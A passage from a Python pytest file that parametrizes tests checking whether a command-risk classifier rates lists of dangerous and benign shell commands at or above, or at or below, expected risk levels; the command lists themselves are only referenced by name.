    DANGEROUS
    + SECOND_PASS_DANGEROUS
    + THIRD_PASS_DANGEROUS
    + FOURTH_PASS_DANGEROUS
    + FIFTH_PASS_DANGEROUS
    + EIGHTH_PASS_DANGEROUS
    + TENTH_PASS_DANGEROUS,
)
def test_dangerous(command: str, least: RiskLevel) -> None:
    reaches(command, least)


@pytest.mark.parametrize(
    ("command", "highest"),
    BENIGN
    + SECOND_PASS_BENIGN
    + THIRD_PASS_BENIGN
    + FOURTH_PASS_BENIGN
    + FIFTH_PASS_BENIGN
    + EIGHTH_PASS_BENIGN,
)
def test_benign(command: str, highest: RiskLevel) -> None:
    stays_within(command, highest)
